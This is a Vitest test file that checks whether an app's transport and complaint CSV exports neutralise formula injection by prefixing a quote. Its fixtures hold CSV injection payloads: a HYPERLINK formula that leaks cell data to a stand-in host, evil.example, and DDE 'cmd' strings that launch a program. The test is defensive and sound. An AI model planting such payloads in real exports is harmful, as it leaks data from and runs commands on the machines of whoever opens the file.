import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { useTestApp } from '../../support/app.js';
import { createTransport, loadRefs, type Refs } from '../transports/fixtures.js';

/**
 * Text an agent writes reaches the supervisor's spreadsheet: a cell that starts like a formula is
 * written with a leading single quote, inside double quotes (OWASP, CSV Injection). Number
 * columns keep their numbers.
 */
const t = useTestApp();
let refs: Refs;
beforeAll(async () => {
  refs = await loadRefs(t);
});

const parse = (text: string): string[][] => parseCsv(text, { relax_quotes: false });

/** Every starting character the rule covers, as an agent could type it. */
const HOSTILE = {
  equals: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
  fullWidthEquals: '\uFF1D1+1',
  fullWidthAt: '\uFF20SUM(A1)',
  plate: '@SUM(A1+A2)',
};

describe('CSV exports neutralise formulas', () => {
  it('prefixes a quote to every transport text cell that starts like a formula, and leaves the others as they were', async () => {
    const transport = await createTransport(t, refs, 'agent', {
      loadingPoint: HOSTILE.equals,
      unloadingPoint: HOSTILE.plus,
      vehiclePlateNumber: HOSTILE.plate,
      productLabel: HOSTILE.minus,
      newCustomer: { firstName: HOSTILE.fullWidthEquals, lastName: 'Client', email: 'formula.client@mail.example' },
      productQuantity: 3,
      averageUnitPrice: 2.5,
    });
    const plain = await createTransport(t, refs, 'agent', {
      loadingPoint: 'Lyon, quai 4',
      productLabel: 'Steel - coils',
      unloadingPoint: '-5',
    });
    const res = await t.call('exportTransportsReport', { token: await t.token('supervisor'), query: { createdBy: refs.user('agent') } });
    expect(res.status).toBe(200);
    const [header, ...rows] = parse(res.raw.body);
    const column = (name: string) => header!.indexOf(name);
    const hostile = rows.find((r) => Number(r[0]) === transport.id)!;
    expect(hostile[column('loadingPoint')]).toBe(`'${HOSTILE.equals}`);
    expect(hostile[column('unloadingPoint')]).toBe(`'${HOSTILE.plus}`);
    expect(hostile[column('vehiclePlateNumber')]).toBe(`'${HOSTILE.plate}`);
    expect(hostile[column('productLabel')]).toBe(`'${HOSTILE.minus}`);
    expect(hostile[column('customer')]).toBe(`'${HOSTILE.fullWidthEquals} Client`);
    expect(hostile[column('productQuantity')]).toBe('3');
    expect(hostile[column('totalProductValue')]).toBe('7.5');
    // Each neutralised cell is also quoted in the file itself.
    expect(res.raw.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")"`);
    expect(res.raw.body).toContain(`,"'-2+3",`);

    const untouched = rows.find((r) => Number(r[0]) === plain.id)!;
    expect(untouched[column('loadingPoint')]).toBe('Lyon, quai 4');
    expect(untouched[column('productLabel')]).toBe('Steel - coils');
    // A text cell holding a number is still text: neutralised like any other (only number columns hold numbers).
    expect(untouched[column('unloadingPoint')]).toBe("'-5");
    expect(untouched[column('productQuantity')]).toBe('24');
    expect(res.raw.body).toMatch(new RegExp(`\\n${plain.id},[^\\n]*,24,30000,`));
    // No cell of the file starts like a formula any more.
    for (const row of rows) {
      for (const [i, cell] of row.entries()) {
        if (header![i] === 'productQuantity' || header![i] === 'totalProductValue') continue;
        expect(cell, `${header![i]} of transport ${row[0]}`).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      }
    }
  });

  it('does the same in the complaints export, tab, carriage return and full-width at sign included', async () => {
    const token = await t.token('agent');
    const labels = [HOSTILE.tab, HOSTILE.carriageReturn, HOSTILE.fullWidthAt, HOSTILE.at];
    const ids: number[] = [];
    for (const label of labels) {
      const transport = await createTransport(t, refs, 'agent');
      const filed = await t.call('createComplaint', { token, body: { transportId: transport.id, label, amountPaid: 40 } });
      expect(filed.status, JSON.stringify(filed.body)).toBe(201);
      ids.push(filed.body.result.id);
    }

    const res = await t.call('exportComplaintsReport', { token: await t.token('supervisor'), query: { createdBy: refs.user('agent') } });
    expect(res.status).toBe(200);
    const [header, ...rows] = parse(res.raw.body);
    const byId = new Map(rows.map((r) => [Number(r[0]), r]));
    labels.forEach((label, i) => {
      expect(byId.get(ids[i]!)![header!.indexOf('label')]).toBe(`'${label}`);
    });
    expect(byId.get(ids[0]!)![header!.indexOf('amountPaid')]).toBe('40');
    expect(res.raw.body).toContain(`"'\t=1+1"`);
  });
});
